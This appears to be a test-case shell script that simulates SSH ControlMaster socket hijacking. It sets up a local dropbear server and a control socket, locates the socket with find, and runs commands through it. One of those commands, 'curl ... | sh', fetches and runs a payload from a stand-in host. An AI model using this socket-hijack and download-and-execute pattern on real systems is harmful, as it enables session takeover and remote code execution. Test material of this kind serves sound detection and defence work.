#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.ssh /etc/dropbear && chmod 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_admin && cat /root/.ssh/id_admin.pub >>/root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys
dropbearkey -t ed25519 -f /etc/dropbear/hk >/dev/null 2>&1
dropbear -F -E -r /etc/dropbear/hk -p 127.0.0.1:2222 2>/tmp/dlog & server=$!
sleep 1
ssh -q -o StrictHostKeyChecking=no -i /root/.ssh/id_admin -p 2222 -M -S /root/.ssh/cm-host -fN 127.0.0.1
s=$(find / -xdev -type s -path '*cm-*' 2>/dev/null | head -n 1)
ssh -S "$s" -O check x
ssh -S "$s" x 'id; cat /etc/hostname; curl -s http://203.0.113.10/payload.sh | sh' >/tmp/out
ssh -S "$s" -O exit x 2>/dev/null || true
kill $server
test -e /tmp/reached
took_place
